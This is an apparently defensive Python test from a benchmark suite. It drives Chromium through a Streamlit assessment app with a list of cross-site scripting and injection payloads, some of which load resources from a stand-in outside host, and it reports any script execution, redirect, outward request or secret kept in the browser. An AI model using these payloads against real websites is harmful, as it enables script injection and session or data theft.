"""Script in every text that is entered: each screen seen in Chromium, where nothing of it may run."""

from __future__ import annotations

import shutil
from typing import Any

from playwright.sync_api import BrowserContext, Page, sync_playwright

from assessment.app.screens import SCREENS
from benchmarks.campaigns.promise import Attacked
from benchmarks.campaigns.web import Site, site

CHROMIUM = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
FLAGS = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-sync",
    "--no-first-run",
)
RUN = "window.ran=1"
AWAY = "http://elsewhere.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"[x](javascript:{RUN})",
    f"![x]({AWAY}/a.png)",
    f"<a href='javascript:{RUN}'>x</a>",
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<script src={AWAY}/a.js></script>",
    f"<link rel=stylesheet href={AWAY}/a.css>",
    f"<style>@import url({AWAY}/a.css)</style>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f":material/home: <b onclick={RUN}>x</b> :red[{AWAY}]",
    f"[![x]({AWAY}/b.png)]({AWAY})",
)
VISITORS = ("chief-alfa", "admin", "respondent", "vera-alfa")


def scripts(attacked: Attacked, count: int) -> None:
    """``count`` payloads, each in the texts of two organizations; attempts are pages seen."""
    path = next(filter(None, map(shutil.which, CHROMIUM)), None)
    if path is None:
        attacked.find("no Chromium is installed: nothing was tried")
        return
    shown = requests = 0
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=[*FLAGS])
        for payload in PAYLOADS[:count]:
            with site(f" {payload}") as running:
                for who in VISITORS:
                    context = browser.new_context()
                    asked = _watched(attacked, running, context, payload)
                    shown += _look_around(attacked, running, context, who, payload)
                    requests += len(asked)
                    context.close()
                if "Traceback" in running.log or "ALFAMERK" in running.log:
                    attacked.find(f"a traceback or a name in the log, with {payload}")
        browser.close()
    if not shown:
        attacked.find("no page showed the texts: the attack sees nothing")
    attacked.note = f"{min(count, len(PAYLOADS))} payloads, on {shown:,} pages, {requests:,} requests"


def _watched(attacked: Attacked, running: Site, context: BrowserContext, payload: str) -> list[str]:
    """Count each request that goes elsewhere, each dialog, each script that the policy had to stop."""
    asked: list[str] = []
    own = (running.origin, running.origin.replace("http", "ws", 1), "data:", "blob:")

    def requested(request: Any) -> None:
        asked.append(request.url)
        if not request.url.startswith(own):
            attacked.find(f"outward request to {request.url} with {payload}")

    def said(message: Any) -> None:
        if "Content Security Policy" in message.text:
            attacked.find(f"the content policy had to stop {payload}: {message.text}")

    def dialog(shown: Any) -> None:
        attacked.find(f"a dialog opens with {payload}")
        shown.dismiss()

    context.on("request", requested)
    context.on("console", said)
    context.on("dialog", dialog)
    return asked


def _look_around(attacked: Attacked, running: Site, context: BrowserContext, who: str, payload: str) -> int:
    """See every screen; on how many the planted text stands."""
    name, _, token = running.people[who][0].partition("=")
    context.add_cookies([{"name": name, "value": token, "url": running.origin, "httpOnly": True}])
    page, shown = context.new_page(), 0
    for path in SCREENS.values() if who != "respondent" else ("",):
        page.goto(f"{running.origin}/{path}?organization=alfa&wave=2025&lang=nl")
        _drawn(page)
        attacked.attempts += 1
        if page.evaluate("window.ran"):
            attacked.find(f"{payload} runs on /{path} as {who}")
        if not page.url.startswith(running.origin):
            attacked.find(f"{payload} leads /{path} to {page.url}")
        shown += "ALFAMERK" in page.inner_text("body")
        kept = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
        if token in kept or "ALFAMERK" in kept:
            attacked.find(f"/{path} keeps a secret or a name in the browser as {who}")
    return shown


def _drawn(page: Page) -> None:
    """Wait until Streamlit has drawn the page."""
    page.wait_for_selector("[data-testid=stApp][data-test-script-state=notRunning]", timeout=30_000)
    page.wait_for_timeout(200)
